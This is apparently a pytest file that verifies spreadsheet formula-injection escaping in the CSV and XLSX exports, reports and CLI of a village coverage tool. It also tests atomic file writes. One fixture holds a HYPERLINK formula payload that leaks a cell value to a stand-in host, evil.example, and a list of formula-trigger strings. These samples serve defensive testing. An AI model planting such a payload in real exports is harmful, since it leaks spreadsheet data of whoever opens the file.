"""Formula safety of every CSV and XLSX file (coverage/writers.py): a village named like a formula
never becomes a live formula, in API exports, CLI exports, sample lists, reports and nearest-site ids."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.cli import app as cli_app
from coverage.ingest import read_input
from coverage.ingest.export import write_output, write_table
from coverage.labels import LABELS, header
from coverage.model.rules import DEFAULT_RULES
from coverage.reports.workbook import write_report_xlsx
from coverage.runs.analysis import run_analysis
from coverage.store.storage import IngestRecord, Store
from coverage.writers import csv_text, csv_unescape, formula_risk, safe_frame
from tests.utils.api import app_for, key
from tests.worlds.row import PARAMS, row_measurements, row_stations, row_villages

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
SITE_ID = "=1+2"  # the station's site id, shown as the villages' nearest_site_id


@pytest.mark.parametrize(("text", "risky"), [
    ("=1+1", True), ("+86 138", True), ("-村", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
    ("＝1+1", True), ("-105", False), ("-105.5", False), ("+3", False), ("-1e-3", False), ("甲村", False),
    ("", False), ("1=1", False), ("- 5", True),
])
def test_formula_risk_follows_the_owasp_list_but_leaves_plain_numbers(text: str, risky: bool) -> None:
    assert formula_risk(text) is risky
    escaped = csv_text(text)
    assert escaped == ("'" + text if risky else text)
    assert csv_unescape(escaped) == text


def test_safe_frame_escapes_text_only_and_keeps_negative_numbers_numbers() -> None:
    frame = pd.DataFrame({"name": [EVIL, "甲村", None], "rsrp": [-105.5, -80.0, None], "n": [-3, 2, 1]})
    safe = safe_frame(frame)
    assert safe["name"].tolist()[:2] == ["'" + EVIL, "甲村"] and pd.isna(safe["name"].iloc[2])
    assert safe["rsrp"].dtype == float and safe["n"].tolist() == [-3, 2, 1]
    assert frame["name"].iloc[0] == EVIL  # the caller's frame is not changed


#: Column keys by their Chinese header (files a person opens have Chinese headers by default).
_KEYS = {header(k): k for k in LABELS}


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    """Each data row as column key -> text."""
    assert data.startswith(b"\xef\xbb\xbf")
    rows = csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline=""))
    return [{_KEYS.get(h, h): v for h, v in row.items()} for row in rows]


def _xlsx_cells(data: bytes | Path) -> list[dict[str, object]]:
    """Each data row of the first sheet as column key -> cell."""
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    sheet = openpyxl.load_workbook(source).worksheets[0]
    keys = [_KEYS.get(c.value, c.value) for c in sheet[1]]
    return [dict(zip(keys, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def _assert_text_not_formula(cell: object, text: str) -> None:
    assert cell.value == text  # type: ignore[attr-defined]
    assert cell.data_type == "s"  # type: ignore[attr-defined]
    assert cell.quotePrefix  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def evil_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, Path]]:
    """The small world with the first village named like a formula and its site id a formula."""
    tmp = tmp_path_factory.mktemp("evil")
    store = Store(f"sqlite:///{tmp / 'evil.db'}")
    store.create_schema()
    villages = row_villages()
    villages.loc[0, "name"] = EVIL
    stations = row_stations()
    stations["site_id"] = SITE_ID
    for kind, frame in (("villages", villages), ("stations", stations), ("measurements", row_measurements())):
        store.write(kind, frame, record=IngestRecord(kind=kind, file_name=f"{kind}.test", sha256="0" * 64))
    run_analysis(store, rules=DEFAULT_RULES, params=PARAMS)
    yield store, tmp
    store.dispose()


def test_api_csv_export_escapes_formula_names_and_site_ids(evil_world: tuple[Store, Path]) -> None:
    store, tmp = evil_world
    with TestClient(app_for(store, tmp)) as client:
        response = client.get("/exports/villages?format=csv&city=3210", headers=key(store, "viewer"))
    assert response.status_code == 200, response.text
    rows = {r["code"]: r for r in _csv_rows(response.content)}
    first = rows["321012101201"]
    assert first["name"] == "'" + EVIL and first["nearest_site_id"] == "'" + SITE_ID
    assert float(first["committee_rsrp_dbm"]) < 0 and not first["committee_rsrp_dbm"].startswith("'")
    assert rows["321012101202"]["name"] == "乙村村委会"


def test_api_xlsx_export_writes_formula_names_as_text(evil_world: tuple[Store, Path]) -> None:
    store, tmp = evil_world
    with TestClient(app_for(store, tmp)) as client:
        response = client.get("/exports/villages?format=xlsx&city=3210", headers=key(store, "viewer"))
    assert response.status_code == 200, response.text
    rows = {r["code"].value: r for r in _xlsx_cells(response.content)}  # type: ignore[attr-defined]
    first = rows["321012101201"]
    _assert_text_not_formula(first["name"], EVIL)
    _assert_text_not_formula(first["nearest_site_id"], SITE_ID)
    rsrp = first["committee_rsrp_dbm"]
    assert rsrp.data_type == "n" and rsrp.value < 0  # type: ignore[attr-defined]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cli_villages_export_is_formula_safe(evil_world: tuple[Store, Path], tmp_path: Path, fmt: str) -> None:
    store, _ = evil_world
    output = tmp_path / f"villages.{fmt}"
    result = CliRunner().invoke(cli_app, ["--db", store.url, "villages", "--format", fmt, "-o", str(output)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    if fmt == "xlsx":
        rows = {r["code"].value: r for r in _xlsx_cells(output)}  # type: ignore[attr-defined]
        _assert_text_not_formula(rows["321012101201"]["name"], EVIL)
        _assert_text_not_formula(rows["321012101201"]["nearest_site_id"], SITE_ID)
    else:
        rows_csv = {r["code"]: r for r in _csv_rows(output.read_bytes())}
        assert rows_csv["321012101201"]["name"] == "'" + EVIL


def test_report_workbook_and_summary_table_are_formula_safe(evil_world: tuple[Store, Path], tmp_path: Path
                                                            ) -> None:
    store, _ = evil_world
    path = write_report_xlsx(store, tmp_path / "report.xlsx", region="3210")
    workbook = openpyxl.load_workbook(path)
    # the first village is covered, so the lists of uncovered villages carry only the site id
    sites = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value == SITE_ID]
    assert sites and all(c.data_type == "s" and c.quotePrefix for c in sites)
    frame = pd.DataFrame({"name": [EVIL], "rate": [-0.5]})
    table = write_table(frame, tmp_path / "t.xlsx")
    cells = _xlsx_cells(table)[0]
    _assert_text_not_formula(cells["name"], EVIL)
    assert cells["rate"].value == -0.5  # type: ignore[attr-defined]


def test_csv_export_of_a_formula_name_reads_back_unchanged(tmp_path: Path) -> None:
    villages = row_villages()
    villages.loc[0, "name"] = EVIL
    path = write_output("villages", villages, tmp_path / "v.csv")
    assert _csv_rows(path.read_bytes())[0]["name"] == "'" + EVIL
    assert read_input("villages", path).frame["name"].iloc[0] == EVIL


def test_atomic_write_replaces_the_file_whole_or_leaves_it(tmp_path: Path) -> None:
    from coverage.writers import atomic_write

    target = tmp_path / "sub" / "村名单.csv"
    with atomic_write(target) as tmp:
        assert tmp.parent == target.parent and tmp.name.startswith(".") and tmp.suffix == ".csv"
        tmp.write_text("old", encoding="utf-8")
        assert not target.exists()  # nothing at the target until the block ends
    assert target.read_text(encoding="utf-8") == "old"
    with pytest.raises(RuntimeError), atomic_write(target, suffix=".xlsx") as tmp:
        assert tmp.suffix == ".xlsx"
        tmp.write_text("half", encoding="utf-8")
        raise RuntimeError("the writer failed")
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in target.parent.iterdir()) == ["村名单.csv"]  # no temporary file left


def test_a_map_page_is_written_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import folium

    from maps import write_html

    page = tmp_path / "map.html"
    page.write_text("the previous map", encoding="utf-8")
    write_text = Path.write_text

    def disk_full(self: Path, data: str, *args: object, **kwargs: object) -> int:
        write_text(self, data[: len(data) // 2], encoding="utf-8")  # half the page, then the disk is full
        raise OSError("disk full")

    monkeypatch.setattr(Path, "write_text", disk_full)
    with pytest.raises(OSError, match="disk full"):
        write_html(folium.Map(), page)
    monkeypatch.undo()
    assert page.read_text(encoding="utf-8") == "the previous map"
    assert [p.name for p in tmp_path.iterdir()] == ["map.html"]
